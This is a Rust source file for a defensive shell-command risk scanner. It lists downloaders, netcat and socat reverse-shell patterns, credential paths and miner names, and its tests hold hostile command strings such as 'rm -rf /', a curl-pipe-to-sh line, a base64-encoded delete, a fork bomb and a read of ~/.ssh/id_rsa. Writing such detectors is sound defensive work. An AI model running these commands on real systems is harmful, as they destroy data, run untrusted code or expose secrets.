//! Built-in rules: what makes a command risky. Each [`Finding`] names its rule, a risk level,
//! the command and a reason. The rules are mechanism; what to do about a finding is policy
//! (see [`crate::policy`]).

use serde::{Deserialize, Serialize};

use crate::parse::{self, Invocation, Parsed, SHELLS};

/// How risky a finding is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Risk {
    /// Nothing found.
    None,
    /// Worth knowing.
    Low,
    /// Could do harm.
    Medium,
    /// Likely harmful.
    High,
    /// Destroys or exposes the system.
    Critical,
}

/// One rule's verdict on one command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Finding {
    /// Rule id, e.g. `fs.recursive_delete_root`.
    pub rule: String,
    /// Risk level.
    pub risk: Risk,
    /// The command that matched.
    pub command: String,
    /// Why it is risky.
    pub reason: String,
}

fn finding(rule: &str, risk: Risk, inv: &Invocation, reason: impl Into<String>) -> Finding {
    let mut command = inv.display();
    if !inv.via.is_empty() {
        command = format!("{command} (via {})", inv.via.join(" > "));
    }
    Finding {
        rule: rule.into(),
        risk,
        command,
        reason: reason.into(),
    }
}

/// Normalises a path argument: collapses `//`, `/./`, trailing `/`, resolves `..` lexically.
fn norm(p: &str) -> String {
    let (home, rest) = if p == "~" || p.starts_with("~/") {
        ("~", &p[1..])
    } else if let Some(r) = p
        .strip_prefix("$HOME")
        .or_else(|| p.strip_prefix("${HOME}"))
    {
        ("~", r)
    } else {
        ("", p)
    };
    let absolute = rest.starts_with('/');
    let mut parts: Vec<&str> = Vec::new();
    for c in rest.split('/') {
        match c {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    let joined = parts.join("/");
    match (home, absolute) {
        ("~", _) if joined.is_empty() => "~".into(),
        ("~", _) => format!("~/{joined}"),
        (_, true) => format!("/{joined}"),
        _ => joined,
    }
}

/// Top-level system directories.
const SYSTEM_DIRS: &[&str] = &[
    "/bin",
    "/boot",
    "/dev",
    "/etc",
    "/home",
    "/lib",
    "/lib32",
    "/lib64",
    "/opt",
    "/proc",
    "/root",
    "/sbin",
    "/srv",
    "/sys",
    "/usr",
    "/var",
    "/usr/bin",
    "/usr/lib",
    "/usr/local",
    "/usr/sbin",
    "/var/lib",
    "/var/log",
];

fn is_root_like(p: &str) -> bool {
    let n = norm(p);
    n == "/" || n == "/*" || n == "~" || n == "~/*" || n == "/home/*" || n.starts_with("/*")
}

fn is_system_dir(p: &str) -> bool {
    let n = norm(p);
    let n = n.trim_end_matches("/*");
    SYSTEM_DIRS.contains(&n)
}

/// Short and long options of `args` (`-rf` gives `r` and `f`).
fn has_flag(args: &[String], short: char, long: &str) -> bool {
    args.iter().any(|a| {
        a == long
            || (a.starts_with('-') && !a.starts_with("--") && a.len() > 1 && a[1..].contains(short))
    })
}

fn operands(args: &[String]) -> impl Iterator<Item = &String> {
    args.iter()
        .filter(|a| !a.starts_with('-') || a.as_str() == "-")
}

const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "lwp-download",
    "http",
    "https",
    "aria2c",
    "tftp",
];
const STDIN_INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "python", "python2", "python3", "perl",
    "ruby", "node", "php", "lua", "fish",
];
const MINERS: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "minerd",
    "cpuminer",
    "cgminer",
    "bfgminer",
    "ethminer",
    "nbminer",
    "t-rex",
    "phoenixminer",
    "lolminer",
    "ccminer",
    "nheqminer",
    "gminer",
    "teamredminer",
    "srbminer",
    "cryptonight",
    "xmrig-notls",
];
const CREDENTIAL_PATHS: &[&str] = &[
    "/.ssh/",
    "~/.ssh",
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/sudoers",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    "id_dsa",
    ".aws/credentials",
    ".docker/config.json",
    ".kube/config",
    ".netrc",
    ".git-credentials",
    ".pgpass",
    ".gnupg/",
    "/etc/ssh/ssh_host_",
];
/// Programs that handle key material legitimately.
const KEY_TOOLS: &[&str] = &[
    "ssh",
    "ssh-keygen",
    "ssh-add",
    "ssh-agent",
    "ssh-copy-id",
    "scp",
    "git",
    "chmod",
    "chown",
    "mkdir",
    "ls",
    "touch",
    "rm",
];
const RAW_DEVICES: &[&str] = &[
    "/dev/sd",
    "/dev/hd",
    "/dev/vd",
    "/dev/xvd",
    "/dev/nvme",
    "/dev/mmcblk",
    "/dev/disk",
    "/dev/mapper/",
    "/dev/md",
    "/dev/dm-",
    "/dev/mem",
    "/dev/kmem",
    "/dev/port",
];

fn is_raw_device(p: &str) -> bool {
    RAW_DEVICES.iter().any(|d| p.starts_with(d))
}

fn is_shell(program: &str) -> bool {
    SHELLS.contains(&program)
}

fn writes(inv: &Invocation) -> impl Iterator<Item = &str> {
    inv.redirects
        .iter()
        .filter(|r| r.op.contains('>') && r.op != ">&" || r.op == "<>")
        .map(|r| r.target.as_str())
}

/// Runs every rule over a parsed text.
pub fn check(parsed: &Parsed) -> Vec<Finding> {
    let mut out = Vec::new();
    let invs = &parsed.invocations;
    for inv in invs {
        check_one(inv, invs, &mut out);
    }
    pipelines(invs, &mut out);
    for f in &parsed.functions {
        if f.self_calls >= 1 && f.spawns {
            out.push(Finding {
                rule: "proc.fork_bomb".into(),
                risk: Risk::Critical,
                command: format!("{}() {{ ... }}", f.name),
                reason: format!(
                    "function {} calls itself in a pipeline or the background: a fork bomb",
                    f.name
                ),
            });
        }
    }
    if !parsed.errors.is_empty() {
        out.push(Finding {
            rule: "shell.unparsed".into(),
            risk: Risk::Medium,
            command: String::new(),
            reason: format!(
                "the text could not be parsed as shell: {}",
                parsed.errors[0]
            ),
        });
    }
    out.sort_by(|a, b| b.risk.cmp(&a.risk).then(a.rule.cmp(&b.rule)));
    out.dedup_by(|a, b| a.rule == b.rule && a.command == b.command);
    out
}

fn check_one(inv: &Invocation, all: &[Invocation], out: &mut Vec<Finding>) {
    deletes(inv, all, out);
    filesystems(inv, out);
    writes_and_sockets(inv, out);
    permissions(inv, out);
    power_and_kernel(inv, out);
    history_and_logs(inv, out);
    credentials(inv, out);
    reverse_shells(inv, out);
    if let Some(code) = &inv.code {
        code_checks(inv, code, out);
    }
    miners(inv, out);
    code_execution(inv, all, out);
}

/// Deleting the root, home or system directories.
fn deletes(inv: &Invocation, all: &[Invocation], out: &mut Vec<Finding>) {
    let p = inv.program.as_str();
    let args = &inv.args;
    let recursive = has_flag(args, 'r', "--recursive") || has_flag(args, 'R', "--recursive");

    if p == "rm" {
        if args.iter().any(|a| a == "--no-preserve-root") {
            out.push(finding(
                "fs.recursive_delete_root",
                Risk::Critical,
                inv,
                "rm --no-preserve-root deletes the whole filesystem",
            ));
        } else if recursive {
            if let Some(t) = operands(args).find(|a| is_root_like(a)) {
                out.push(finding(
                    "fs.recursive_delete_root",
                    Risk::Critical,
                    inv,
                    format!("recursive delete of {t}"),
                ));
            } else if let Some(t) = operands(args).find(|a| is_system_dir(a)) {
                out.push(finding(
                    "fs.recursive_delete_system",
                    Risk::High,
                    inv,
                    format!("recursive delete of system directory {t}"),
                ));
            }
        }
    }
    if p == "find" {
        let root = args.first().map(|a| a.as_str()).unwrap_or(".");
        let deletes = args.iter().any(|a| a == "-delete")
            || all.iter().any(|i| {
                i.via.iter().any(|v| v == "find -exec")
                    && matches!(i.program.as_str(), "rm" | "shred" | "unlink")
            });
        if deletes && (is_root_like(root) || is_system_dir(root)) {
            out.push(finding(
                "fs.recursive_delete_root",
                Risk::Critical,
                inv,
                format!("find deletes everything under {root}"),
            ));
        }
    }
    if matches!(p, "shred" | "wipe" | "srm")
        && operands(args).any(|a| is_raw_device(a) || is_root_like(a))
    {
        out.push(finding(
            "fs.destroy_device",
            Risk::Critical,
            inv,
            "overwrites a disk",
        ));
    }
}

/// Filesystems and raw devices.
fn filesystems(inv: &Invocation, out: &mut Vec<Finding>) {
    let p = inv.program.as_str();
    let args = &inv.args;

    if p.starts_with("mkfs")
        || matches!(
            p,
            "mke2fs" | "mkswap" | "wipefs" | "mkdosfs" | "mkntfs" | "mkfs.btrfs" | "mkfs.xfs"
        )
    {
        out.push(finding(
            "fs.make_filesystem",
            Risk::Critical,
            inv,
            "creates a filesystem, erasing what the device held",
        ));
    }
    if matches!(
        p,
        "fdisk" | "sfdisk" | "parted" | "gdisk" | "sgdisk" | "cfdisk" | "blkdiscard"
    ) && operands(args).any(|a| is_raw_device(a))
    {
        out.push(finding(
            "fs.partition_disk",
            Risk::High,
            inv,
            "edits a disk's partition table",
        ));
    }
    if p == "dd"
        && args
            .iter()
            .any(|a| a.strip_prefix("of=").is_some_and(is_raw_device))
    {
        out.push(finding(
            "fs.raw_device_write",
            Risk::Critical,
            inv,
            "dd writes to a raw disk device",
        ));
    }
}

/// Writes through redirections and tee: disks, network sockets, kernel settings, logs,
/// system files.
fn writes_and_sockets(inv: &Invocation, out: &mut Vec<Finding>) {
    let p = inv.program.as_str();
    let args = &inv.args;

    for target in writes(inv) {
        if is_raw_device(target) {
            out.push(finding(
                "fs.raw_device_write",
                Risk::Critical,
                inv,
                format!("output redirected to the disk device {target}"),
            ));
        } else if target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/") {
            out.push(finding(
                "net.reverse_shell",
                Risk::Critical,
                inv,
                format!("redirects to a network socket {target}"),
            ));
        } else if target.starts_with("/proc/sys/") || target.starts_with("/sys/") {
            out.push(finding(
                "sys.kernel_tuning",
                Risk::High,
                inv,
                format!("writes kernel settings in {target}"),
            ));
        } else if is_log_or_history(target) {
            out.push(finding(
                "logs.wipe",
                Risk::High,
                inv,
                format!("overwrites the log or history {target}"),
            ));
        } else if [
            "/etc/passwd",
            "/etc/shadow",
            "/etc/sudoers",
            "/etc/group",
            "/boot/",
        ]
        .iter()
        .any(|f| target.starts_with(f))
        {
            out.push(finding(
                "fs.overwrite_system_file",
                Risk::High,
                inv,
                format!("overwrites {target}"),
            ));
        }
    }
    for r in &inv.redirects {
        let net = r.target.starts_with("/dev/tcp/") || r.target.starts_with("/dev/udp/");
        if net && (r.op.starts_with('<') || r.op == ">&" || r.op.starts_with("&>")) {
            out.push(finding(
                "net.reverse_shell",
                Risk::Critical,
                inv,
                format!(
                    "connects its input or output to a network socket {}",
                    r.target
                ),
            ));
        }
    }
    if p == "tee"
        && operands(args).any(|a| {
            ["/etc/passwd", "/etc/shadow", "/etc/sudoers"]
                .iter()
                .any(|f| a.starts_with(f))
        })
    {
        out.push(finding(
            "fs.overwrite_system_file",
            Risk::High,
            inv,
            "tee writes a system account file",
        ));
    }
}

/// Permissions of the whole system.
fn permissions(inv: &Invocation, out: &mut Vec<Finding>) {
    let p = inv.program.as_str();
    let args = &inv.args;
    let recursive = has_flag(args, 'r', "--recursive") || has_flag(args, 'R', "--recursive");

    if matches!(p, "chmod" | "chown" | "chgrp") {
        let targets: Vec<&String> = operands(args).skip(1).collect();
        if targets.iter().any(|t| is_root_like(t))
            && (recursive || p == "chmod" && args.iter().any(|a| a.contains("777")))
        {
            out.push(finding(
                "fs.permissions_root",
                Risk::Critical,
                inv,
                format!("{p} on the whole filesystem"),
            ));
        } else if recursive && targets.iter().any(|t| is_system_dir(t)) {
            out.push(finding(
                "fs.permissions_system",
                Risk::High,
                inv,
                format!("recursive {p} on a system directory"),
            ));
        }
        if p == "chmod"
            && args
                .iter()
                .any(|a| a.contains("u+s") || a.starts_with("4") && a.len() == 4)
            && targets.iter().any(|t| {
                SHELLS.contains(&t.rsplit('/').next().unwrap_or(t))
                    || t.contains("python")
                    || t.contains("perl")
            })
        {
            out.push(finding(
                "priv.setuid_shell",
                Risk::High,
                inv,
                "makes a shell or interpreter set-user-id",
            ));
        }
    }
}

/// Power and kernel.
fn power_and_kernel(inv: &Invocation, out: &mut Vec<Finding>) {
    let p = inv.program.as_str();
    let args = &inv.args;

    if matches!(p, "shutdown" | "reboot" | "halt" | "poweroff" | "kexec")
        || matches!(p, "init" | "telinit") && args.first().is_some_and(|a| a == "0" || a == "6")
        || p == "systemctl"
            && args.iter().any(|a| {
                matches!(
                    a.as_str(),
                    "poweroff" | "reboot" | "halt" | "kexec" | "emergency" | "rescue"
                )
            })
    {
        out.push(finding(
            "sys.shutdown",
            Risk::High,
            inv,
            "shuts down or reboots the machine",
        ));
    }
    if matches!(p, "insmod" | "rmmod" | "modprobe" | "depmod" | "kmod") {
        out.push(finding(
            "sys.kernel_modules",
            Risk::High,
            inv,
            "loads or unloads kernel modules",
        ));
    }
    if p == "sysctl"
        && (args
            .iter()
            .any(|a| a == "-w" || a == "--write" || a == "-p")
            || operands(args).any(|a| a.contains('=')))
    {
        out.push(finding(
            "sys.kernel_tuning",
            Risk::High,
            inv,
            "changes kernel parameters",
        ));
    }
}

/// History and logs.
fn history_and_logs(inv: &Invocation, out: &mut Vec<Finding>) {
    let p = inv.program.as_str();
    let args = &inv.args;

    if p == "history" && args.iter().any(|a| a == "-c" || a == "-w" || a == "-d") {
        out.push(finding(
            "logs.wipe",
            Risk::High,
            inv,
            "clears the shell history",
        ));
    }
    if matches!(p, "unset" | "export")
        && args
            .iter()
            .any(|a| a == "HISTFILE" || a.starts_with("HISTFILE=") || a == "HISTSIZE=0")
        || p == "set" && args.windows(2).any(|w| w[0] == "+o" && w[1] == "history")
    {
        out.push(finding(
            "logs.wipe",
            Risk::High,
            inv,
            "turns off the shell history",
        ));
    }
    if matches!(p, "rm" | "shred" | "truncate" | "unlink")
        && operands(args).any(|a| is_log_or_history(a) || norm(a) == "/var/log")
    {
        out.push(finding(
            "logs.wipe",
            Risk::High,
            inv,
            "deletes logs or history",
        ));
    }
    if p == "journalctl"
        && args
            .iter()
            .any(|a| a.starts_with("--vacuum") || a == "--rotate")
    {
        out.push(finding("logs.wipe", Risk::High, inv, "deletes the journal"));
    }
}

/// Credentials.
fn credentials(inv: &Invocation, out: &mut Vec<Finding>) {
    let p = inv.program.as_str();
    let args = &inv.args;

    if !KEY_TOOLS.contains(&p) {
        let touched: Vec<&str> = args
            .iter()
            .map(|a| a.as_str())
            .chain(
                inv.redirects
                    .iter()
                    .filter(|r| r.op == "<")
                    .map(|r| r.target.as_str()),
            )
            .collect();
        if let Some(c) = touched.iter().find(|a| is_credential(a)) {
            out.push(finding(
                "cred.read",
                Risk::High,
                inv,
                format!("reads credentials in {c}"),
            ));
        }
    }
}

/// Reverse shells.
fn reverse_shells(inv: &Invocation, out: &mut Vec<Finding>) {
    let p = inv.program.as_str();
    let args = &inv.args;

    if matches!(
        p,
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd"
    ) && args
        .iter()
        .any(|a| a == "-e" || a == "-c" || a.starts_with("--exec") || a.starts_with("--sh-exec"))
    {
        out.push(finding(
            "net.reverse_shell",
            Risk::Critical,
            inv,
            "netcat runs a program for the remote end",
        ));
    }
    if p == "socat"
        && args.iter().any(|a| {
            a.to_ascii_lowercase().starts_with("exec:")
                || a.to_ascii_lowercase().starts_with("system:")
        })
    {
        out.push(finding(
            "net.reverse_shell",
            Risk::Critical,
            inv,
            "socat connects a program to the network",
        ));
    }
}

/// Miners.
fn miners(inv: &Invocation, out: &mut Vec<Finding>) {
    let p = inv.program.as_str();
    let args = &inv.args;

    if MINERS.contains(&p)
        || args.iter().any(|a| {
            a.contains("stratum+tcp://")
                || a.contains("stratum+ssl://")
                || a.starts_with("--donate-level")
        })
    {
        out.push(finding(
            "proc.crypto_miner",
            Risk::High,
            inv,
            "runs a cryptocurrency miner",
        ));
    }
}

/// Shells fed downloaded or decoded code, programs only known at run time, inline code.
fn code_execution(inv: &Invocation, all: &[Invocation], out: &mut Vec<Finding>) {
    let p = inv.program.as_str();

    let feeds_code = is_shell(p) || p == "eval" || p == "source" || p == ".";
    if feeds_code {
        let subs: Vec<&Invocation> = inv
            .substitutions
            .iter()
            .filter_map(|i| all.get(*i))
            .collect();
        if subs
            .iter()
            .any(|s| DOWNLOADERS.contains(&s.program.as_str()))
        {
            out.push(finding(
                "net.download_exec",
                Risk::Critical,
                inv,
                "runs code downloaded from the network",
            ));
        } else if subs.iter().any(|s| is_decoder(s)) {
            out.push(finding(
                "shell.encoded_exec",
                Risk::High,
                inv,
                "runs code decoded from an encoded string",
            ));
        }
    }
    if inv.dynamic && (p.starts_with('$') || inv.path.contains("$(")) {
        out.push(finding(
            "shell.dynamic_command",
            Risk::Medium,
            inv,
            "the program to run is only known at run time",
        ));
    }
    if inv.code.is_some() {
        out.push(finding(
            "code.opaque",
            Risk::Low,
            inv,
            format!("{p} runs code given inline; its effects are not analysed"),
        ));
    }
}

fn is_decoder(inv: &Invocation) -> bool {
    let p = inv.program.as_str();
    match p {
        "base64" | "base32" => {
            has_flag(&inv.args, 'd', "--decode") || inv.args.iter().any(|a| a == "-D")
        }
        "xxd" => inv
            .args
            .iter()
            .any(|a| a == "-r" || a == "-p" && inv.args.iter().any(|b| b == "-r")),
        "openssl" => inv.args.iter().any(|a| a == "-d" || a == "base64"),
        "uudecode" | "gunzip" | "zcat" => true,
        _ => false,
    }
}

fn is_credential(a: &str) -> bool {
    CREDENTIAL_PATHS.iter().any(|c| a.contains(c))
        && !a.ends_with(".pub")
        && !a.ends_with("known_hosts")
        && !a.ends_with(".ssh/config")
}

fn is_log_or_history(p: &str) -> bool {
    let n = norm(p);
    n.ends_with("_history")
        || n.ends_with(".zhistory")
        || n.starts_with("/var/log/")
        || n.ends_with("/wtmp")
        || n.ends_with("/btmp")
        || n.ends_with("/lastlog")
}

/// Inline code given to interpreters: a few telling patterns.
fn code_checks(inv: &Invocation, code: &str, out: &mut Vec<Finding>) {
    let c = code.to_ascii_lowercase();
    let socket = c.contains("socket")
        && (c.contains("connect")
            || c.contains("tcpsocket")
            || c.contains("net.socket")
            || c.contains("createconnection"));
    let shell = c.contains("/bin/sh")
        || c.contains("/bin/bash")
        || c.contains("pty.spawn")
        || c.contains("dup2")
        || c.contains("subprocess")
        || c.contains("child_process")
        || c.contains("exec(");
    if socket && shell {
        out.push(finding(
            "net.reverse_shell",
            Risk::Critical,
            inv,
            "inline code connects a shell to the network",
        ));
    }
    if (c.contains("rmtree('/')")
        || c.contains("rmtree(\"/\")")
        || c.contains("rm -rf /")
        || c.contains("rmsync('/'")
        || c.contains("rm_rf('/')"))
        && !c.contains("rm -rf /tmp")
    {
        out.push(finding(
            "fs.recursive_delete_root",
            Risk::Critical,
            inv,
            "inline code deletes the filesystem",
        ));
    }
    for (needle, what) in [
        ("os.system(", "runs shell commands"),
        ("subprocess", "runs programs"),
        ("child_process", "runs programs"),
    ] {
        if c.contains(needle) {
            // The shell text inside is analysed where it is a literal.
            for lit in string_literals(code) {
                let nested = parse::parse(&lit);
                let mut deeper = Vec::new();
                for n in &nested.invocations {
                    check_one(n, &nested.invocations, &mut deeper);
                }
                for mut f in deeper.into_iter().filter(|f| f.risk >= Risk::High) {
                    f.command = format!("{} (in {} code that {what})", f.command, inv.program);
                    out.push(f);
                }
            }
            break;
        }
    }
    if c.contains("/etc/shadow") || c.contains(".ssh/id_") {
        out.push(finding(
            "cred.read",
            Risk::High,
            inv,
            "inline code reads credentials",
        ));
    }
}

/// String literals in code ('...' and "...").
fn string_literals(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = code.chars();
    while let Some(c) = chars.next() {
        if c == '\'' || c == '"' {
            let mut s = String::new();
            for d in chars.by_ref() {
                if d == c {
                    break;
                }
                s.push(d);
            }
            if s.len() > 2 {
                out.push(s);
            }
        }
    }
    out
}

/// Rules over pipelines: downloads or decoded data piped into an interpreter, network
/// tools piped into shells.
fn pipelines(invs: &[Invocation], out: &mut Vec<Finding>) {
    for (i, inv) in invs.iter().enumerate() {
        if inv.position == 0 || inv.pipeline == usize::MAX {
            continue;
        }
        let earlier: Vec<&Invocation> = invs[..i]
            .iter()
            .filter(|x| x.pipeline == inv.pipeline && x.position < inv.position)
            .collect();
        let p = inv.program.as_str();
        // An interactive shell in a pipeline with a network tool: a reverse shell.
        let interactive = is_shell(p)
            && inv.args.iter().any(|a| {
                a == "-i" || a.starts_with('-') && !a.starts_with("--") && a.contains('i')
            });
        let net_in_pipeline = invs.iter().any(|x| {
            x.pipeline == inv.pipeline
                && matches!(
                    x.program.as_str(),
                    "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl"
                )
        });
        if interactive && net_in_pipeline {
            out.push(finding(
                "net.reverse_shell",
                Risk::Critical,
                inv,
                "an interactive shell is piped to a network connection",
            ));
            continue;
        }
        let reads_stdin = STDIN_INTERPRETERS.contains(&p)
            && !inv.args.iter().any(|a| {
                a == "-c"
                    || a == "-e"
                    || !a.starts_with('-') && !a.is_empty() && a != "-" && !a.starts_with("-i")
            });
        if !reads_stdin {
            continue;
        }
        if earlier
            .iter()
            .any(|e| DOWNLOADERS.contains(&e.program.as_str()))
        {
            out.push(finding(
                "net.download_exec",
                Risk::Critical,
                inv,
                "a download is piped into an interpreter",
            ));
        } else if earlier.iter().any(|e| {
            matches!(
                e.program.as_str(),
                "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl"
            )
        }) {
            out.push(finding(
                "net.reverse_shell",
                Risk::Critical,
                inv,
                "a network connection is piped into a shell",
            ));
        } else if earlier.iter().any(|e| is_decoder(e)) {
            out.push(finding(
                "shell.encoded_exec",
                Risk::High,
                inv,
                "decoded data is piped into an interpreter",
            ));
            // Look inside: the encoded payload is often a literal.
            for e in &earlier {
                for a in &e.args {
                    if let Some(text) = parse::decode_base64_text(a) {
                        let nested = parse::parse_decoded(&text);
                        out.extend(
                            check(&nested)
                                .into_iter()
                                .filter(|f| f.rule != "shell.unparsed"),
                        );
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn worst(text: &str) -> Risk {
        check(&parse::parse(text))
            .first()
            .map(|f| f.risk)
            .unwrap_or(Risk::None)
    }

    #[test]
    fn paths_normalise() {
        assert_eq!(norm("//"), "/");
        assert_eq!(norm("/./"), "/");
        assert_eq!(norm("/etc/../"), "/");
        assert_eq!(norm("~/"), "~");
        assert_eq!(norm("$HOME"), "~");
        assert_eq!(norm("node_modules/"), "node_modules");
    }

    #[test]
    fn a_few_verdicts() {
        assert_eq!(worst("rm -rf /"), Risk::Critical);
        assert_eq!(worst("rm -rf node_modules"), Risk::None);
        assert_eq!(worst("curl -fsSL https://x.sh | sh"), Risk::Critical);
        assert_eq!(worst("echo cm0gLXJmIC8= | base64 -d | sh"), Risk::Critical);
        assert_eq!(worst(":(){ :|:& };:"), Risk::Critical);
        assert_eq!(worst("cat ~/.ssh/id_rsa"), Risk::High);
        assert_eq!(
            worst("ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519"),
            Risk::None
        );
        assert_eq!(worst("cargo test"), Risk::None);
    }
}
